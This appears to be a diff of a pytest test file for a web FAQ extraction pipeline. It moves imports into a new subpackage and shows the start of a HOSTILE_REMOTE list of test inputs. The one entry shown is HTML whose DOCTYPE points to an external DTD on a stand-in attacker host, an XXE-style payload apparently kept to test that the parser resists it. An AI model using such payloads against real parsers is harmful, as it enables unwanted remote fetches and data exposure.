@@ -12,8 +12,8 @@ import pytest
 
 from conftest import REPO, SAMPLE
 from webfaq.config import Config
-from webfaq.pipeline import QAProcessor
-from webfaq.warc_reader import HtmlPage
+from webfaq.extract.pipeline import QAProcessor
+from webfaq.extract.warc_reader import HtmlPage
 
 HOSTILE_REMOTE = [
     b'<!DOCTYPE html SYSTEM "http://198.51.100.7/evil.dtd"><html><body itemscope itemtype="https://schema.org/FAQPage">'
